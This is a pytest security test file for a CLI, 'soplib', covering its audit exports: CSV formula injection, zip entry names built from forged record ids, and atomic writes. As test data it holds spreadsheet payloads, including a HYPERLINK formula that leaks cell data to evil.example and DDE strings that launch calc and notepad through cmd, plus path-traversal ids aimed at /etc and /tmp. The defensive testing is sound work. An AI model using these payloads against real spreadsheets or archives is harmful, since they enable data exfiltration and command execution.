"""Attack: what soplib writes for an auditor (issue 10, points 7-9).

Three attacks on the files `sop audit report` and `sop audit pack` write:

1. Formula injection. Staff names, units and positions, SOP titles and units,
   session titles, references, reasons and notes, briefing titles reach the CSV
   files (the report's register, the pack's coverage tables, attendance lists
   and evaluation worksheets). A cell starting with `=`, `+`, `-`, `@`, a tab or
   a carriage return is a formula to a spreadsheet (`=HYPERLINK(...)` leaks
   data, DDE payloads run programs). Expected: every such cell is neutralised
   as OWASP recommends (prefixed with a single quote), and the text is still
   there.
2. Zip entry names from record fields. A soplib-looking commit gives a review
   session the id `../../x` (or an absolute path, a backslash path, a drive
   letter) inside its record, or a briefing or pinned SOP such an id. Expected:
   no entry of the pack has `..`, an absolute path, a backslash or a colon; the
   pack refuses with one line (or skips the record), and nothing is written
   outside the output file.
3. A write that fails (RLIMIT_FSIZE in the child, as a full disk would) leaves
   no partial file, and `--force` never destroys the previous good file first:
   written to a temporary file and renamed on success.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import stat
import zipfile
from pathlib import Path

import pytest
from attack_forge import (
    briefing_id,
    demo_store,
    dump,
    forge,
    last_commit,
    read_json,
    session_id,
)
from attack_kit import (
    assert_clean_exit,
    assert_one_line_error,
    limits,
    ok,
    sop,
    staff_file,
)

BY = "ani.pratiwi"
APPROVER = "199001012015011004"  # the approver is named on the ratified SOP: registered staff (STAFF)
IN_FORCE = "KPU-NTB-SOP-03"  # in the demo store: in force today, not acknowledged by everyone yet
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

# Values that reach the CSV files, each starting as a spreadsheet formula would.
STAFF = [
    ("199001012015011001", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "+Sekretariat", "-2+3"),
    ("199001012015011002", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "@Operator"),
    ("199001012015011003", "-cmd|' /C notepad'!A0", "Sekretariat", "=Staf"),
    ("199001012015011004", "Biasa Saja", "Sekretariat", "Staf"),
]
SOP_A = """\
---
id: KPU-CSV-01
title: "=HYPERLINK(\\"http://evil.example\\",\\"judul\\")"
unit: "+SUM(1,2)"
---
# Prosedur

1. Langkah pertama.
2. Langkah kedua.
"""
SOP_B = """\
---
id: KPU-CSV-02
title: "\\t=1+1"
unit: "\\r-2+3"
---
# Prosedur

1. Langkah pertama.
"""
SESSION_TITLE, SESSION_REF = "=Evaluasi", "@BA 1/2026"
REASON, NOTE, BRIEFING_TITLE = "-alasan", "=catatan umum", "+Sosialisasi"
# The texts the CSV files carry. A session's title and reference are in none of them (the
# worksheet names the SOP and version): every cell is still checked for formulas, so should
# one ever carry them, a raw "=Evaluasi" fails the first check below.
PAYLOADS = [
    *(text for person in STAFF[:3] for text in person[1:]),
    '=HYPERLINK("http://evil.example","judul")', "+SUM(1,2)", "\t=1+1", "\r-2+3",
    REASON, NOTE, BRIEFING_TITLE,
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store made with the CLI whose texts all start like formulas."""
    root = tmp_path_factory.mktemp("csv")
    store, inputs = root / "store", root / "in"
    inputs.mkdir()
    (inputs / "a.md").write_text(SOP_A)
    (inputs / "b.md").write_text(SOP_B)
    ok(sop(store, "init"))
    ok(sop(store, "add", str(inputs / "a.md"), str(inputs / "b.md"), "--by", BY))
    ok(sop(store, "staff", "import", str(staff_file(inputs, STAFF)), "--by", BY))
    started = ok(sop(store, "review", "start", "KPU-CSV-01", "--team", f"{BY}:chair", "--ref", SESSION_REF,
                     "--title", SESSION_TITLE, "--by", BY))  # fmt: skip
    sid = started.out.strip().split()[-1]
    criteria = ["drives-performance", "easy-to-understand", "easy-to-carry-out", "roles-clear",
                "solves-problems", "meets-needs", "fits-other-sops"]  # fmt: skip
    answers = [x for c in criteria for x in (f"--{c}", "yes")]
    ok(sop(store, "review", "evaluate", sid, "KPU-CSV-01", *answers, "--notes", NOTE, "--by", BY))
    ok(sop(store, "review", "outcome", sid, "KPU-CSV-01", "keep", "--reason", REASON, "--by", BY))
    ok(sop(store, "review", "approve", sid, "--by", APPROVER))
    made = ok(sop(store, "briefing", "create", "--title", BRIEFING_TITLE, "--date", "2026-11-27",
                  "--sops", "KPU-CSV-01", "--by", BY))  # fmt: skip
    attendance = inputs / "hadir.csv"
    attendance.write_text("id\n" + "".join(f"{p[0]}\n" for p in STAFF[:2]))
    ok(sop(store, "briefing", "attend", made.out.strip().split()[-1], str(attendance), "--by", BY))
    return store


def csv_files(hostile: Path, out: Path) -> dict[str, list[list[str]]]:
    """Every CSV soplib writes for this store: the report's, and every one inside the pack."""
    ok(sop(hostile, "audit", "report", "--format", "csv", "-o", str(out / "register.csv")))
    ok(sop(hostile, "audit", "pack", "-o", str(out / "pack.zip")))
    found = {"register.csv": (out / "register.csv").read_bytes()}
    with zipfile.ZipFile(out / "pack.zip") as archive:
        found.update({n: archive.read(n) for n in archive.namelist() if n.endswith(".csv")})
    return {
        name: list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for name, data in found.items()
    }


def test_no_csv_cell_is_a_formula(hostile: Path, tmp_path: Path) -> None:
    tables = csv_files(hostile, tmp_path)
    assert {"coverage/per-sop.csv", "coverage/per-unit.csv", "coverage/outstanding.csv"} <= tables.keys()
    assert any(n.endswith("daftar-hadir.csv") for n in tables) and any(
        n.endswith("evaluasi.csv") for n in tables
    )
    cells = [(name, cell) for name, rows in tables.items() for row in rows for cell in row]
    formulas = [(n, c) for n, c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert not formulas, f"{len(formulas)} cells a spreadsheet would run, e.g. {formulas[:8]}"
    # and the text is still all there (behind the quote that neutralises it)
    for payload in PAYLOADS:
        assert any(payload.strip() in cell for _, cell in cells), f"{payload!r} is missing from every CSV"


# -- zip entry names ---------------------------------------------------------------------------------

SESSION_IDS = [
    "../../x", "../../../../tmp/soplib-pwned", "/etc/soplib-pwned", "..\\..\\x", "C:\\x", "a/../../b",
    "R-20261129-AAAA/../../x", "./../x", "x/./../../y",
]  # fmt: skip


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return demo_store(tmp_path_factory.mktemp("zip") / "demo")


@pytest.fixture
def demo(demo_template: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(demo_template, tmp_path / "store", symlinks=True))


def _listing(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def _forge_field(store: Path, what: str, value: str) -> None:
    like = last_commit(store, action="ack")
    if what == "session id":
        path = f"reviews/{session_id(store)}/session.json"
        forge(store, {path: dump({**read_json(store, path), "id": value})}, like=like)
    elif what == "briefing id":
        path = f"briefings/{briefing_id(store)}.json"
        forge(store, {path: dump({**read_json(store, path), "id": value})}, like=like)
    else:  # a pinned SOP id
        path = f"reviews/{session_id(store)}/session.json"
        header = read_json(store, path)
        header["pinned"] = {value: 1, **header["pinned"]}
        forge(store, {path: dump(header)}, like=like)


def assert_safe_entries(names: list[str]) -> None:
    for name in names:
        parts = name.split("/")
        assert ".." not in parts and "." not in parts, name
        assert not name.startswith("/") and "\\" not in name and ":" not in name, name
        assert all(parts), name  # no empty component (``a//b``, a trailing slash)


@pytest.mark.parametrize("what", ["session id", "briefing id", "pinned SOP id"])
@pytest.mark.parametrize("value", SESSION_IDS)
def test_zip_entry_names_never_come_from_record_fields(
    demo: Path, tmp_path: Path, what: str, value: str
) -> None:
    _forge_field(demo, what, value)
    out = tmp_path / "out"
    out.mkdir()
    before = _listing(tmp_path)
    result = sop(demo, "audit", "pack", "-o", str(out / "pack.zip"), cwd=out)
    assert_clean_exit(result)
    after = _listing(tmp_path)
    if result.code == 0:
        assert after - before == {"out/pack.zip"}, after - before
        with zipfile.ZipFile(out / "pack.zip") as archive:
            assert_safe_entries(archive.namelist())
    else:
        assert after == before, after - before
    assert not Path("/etc/soplib-pwned").exists() and not Path("/tmp/soplib-pwned").exists()


def test_control_the_demo_pack_has_safe_entry_names(demo: Path, tmp_path: Path) -> None:
    ok(sop(demo, "audit", "pack", "-o", str(tmp_path / "pack.zip")))
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        names = archive.namelist()
    assert len(names) > 20
    assert_safe_entries(names)


# -- failed writes ------------------------------------------------------------------------------------

OUTPUTS = {
    "pack": ["audit", "pack", "-o", "{out}"],
    "report html": ["audit", "report", "-o", "{out}"],
    "report csv": ["audit", "report", "--format", "csv", "-o", "{out}"],
}
NAMES = {"pack": "evidence.zip", "report html": "laporan.html", "report csv": "register.csv"}


@pytest.mark.parametrize("force", [False, True], ids=["new file", "--force over a good file"])
@pytest.mark.parametrize("output", OUTPUTS)
def test_a_failed_write_leaves_no_partial_file_and_keeps_the_old_one(
    demo: Path, tmp_path: Path, output: str, force: bool
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / NAMES[output]
    args = [a.format(out=target) for a in OUTPUTS[output]]
    ok(sop(demo, *args))
    good = target.read_bytes()
    assert len(good) > 200
    if force:
        # the store moves on (one more person acknowledges an SOP in force), so the register,
        # the report and the pack's coverage would all differ from the old file
        coverage = ok(sop(demo, "coverage", IN_FORCE, "--json")).json()
        person = coverage["sops"][0]["outstanding"][0]
        ok(sop(demo, "ack", person, IN_FORCE, "--by", person))
        args.append("--force")
    else:
        target.unlink()
    before = _listing(folder)
    result = sop(demo, *args, preexec=limits(file_size=len(good) // 2), cwd=folder)
    assert_one_line_error(result)
    assert _listing(folder) == before, f"left behind: {_listing(folder) ^ before}"
    if force:
        assert target.read_bytes() == good, "--force destroyed the previous good file"
    # with room to write, the same command succeeds
    ok(sop(demo, *args))
    if force:
        assert target.read_bytes() != good, "the store moved on; the new file differs"


def test_the_limit_is_what_fails_the_write(demo: Path, tmp_path: Path) -> None:
    """Control: under a generous file-size limit the pack is written whole."""
    target = tmp_path / "evidence.zip"
    ok(sop(demo, "audit", "pack", "-o", str(target), preexec=limits(file_size=64 << 20)))
    with zipfile.ZipFile(target) as archive:
        assert archive.testzip() is None


@pytest.mark.parametrize("output", OUTPUTS)
def test_force_over_a_device_writes_through_it_and_never_replaces_it(
    demo: Path, tmp_path: Path, output: str
) -> None:
    """`-o /dev/null --force` must not turn the device into a file (a rename over it would, for everyone).

    A private copy of /dev/null (same device numbers) in the test's folder stands in for it, under
    the output's own name (the pack must be named ``*.zip``).
    """
    if os.geteuid() != 0:
        pytest.fail("making a device node needs root (CI runs as root)")
    device = tmp_path / NAMES[output]
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    args = [a.format(out=device) for a in OUTPUTS[output]]
    result = sop(demo, *args, "--force")
    assert_clean_exit(result)
    assert stat.S_ISCHR(device.lstat().st_mode), "the device was replaced by a regular file"
    assert {p.name for p in tmp_path.iterdir()} == {device.name, "store"}, (
        "a temporary file was left beside it"
    )
